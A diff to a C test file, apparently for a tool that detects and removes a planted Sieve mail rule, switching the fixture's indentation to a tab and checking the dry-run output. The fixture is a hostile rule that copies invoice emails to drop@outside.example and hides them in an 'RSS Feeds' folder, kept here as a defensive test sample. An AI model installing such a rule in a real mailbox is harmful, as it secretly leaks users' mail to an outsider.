@@ -11,7 +11,7 @@
 
 #define HOSTILE                                                                                    \
     "# rule:[.]\nif header :contains \"subject\" \"invoice\"\n{\n"                                 \
-    "  redirect :copy \"drop@outside.example\";\n  fileinto \"RSS Feeds\";\n}\n"
+    "\tredirect :copy \"drop@outside.example\";\n  fileinto \"RSS Feeds\";\n}\n"
 #define GOOD "# rule:[lists]\nif header :is \"list-id\" \"a\" { fileinto \"Lists\"; }\n"
 
 static const char script[] = "require [\"copy\", \"fileinto\"];\n# by hand\n" HOSTILE GOOD;
@@ -19,7 +19,7 @@ static const char without[] = "require [\"copy\", \"fileinto\"];\n# by hand\n" G
 static const char switched_off[] =
     "require [\"copy\", \"fileinto\"];\n# by hand\n# rule:[.]\n"
     "if false # header :contains \"subject\" \"invoice\"\n\n{\n"
-    "  redirect :copy \"drop@outside.example\";\n  fileinto \"RSS Feeds\";\n}\n" GOOD;
+    "\tredirect :copy \"drop@outside.example\";\n  fileinto \"RSS Feeds\";\n}\n" GOOD;
 
 static void begin(struct bench *bench, void **state)
 {
@@ -124,6 +124,7 @@ static void a_dry_run_says_everything_and_sends_nothing(void **state)
     bench_expect_said(&bench, "CHECKSCRIPT {");
     bench_expect_said(&bench, "PUTSCRIPT \"main\" {");
     bench_expect_said(&bench, "- if header :contains \"subject\" \"invoice\"");
+    bench_expect_said(&bench, "        redirect :copy"); /* not <U+0009> */
     bench_expect_said(&bench, "Nothing was sent");
     expect_script(&bench, script);
     assert_int_equal(bench_actions(&bench), 0);
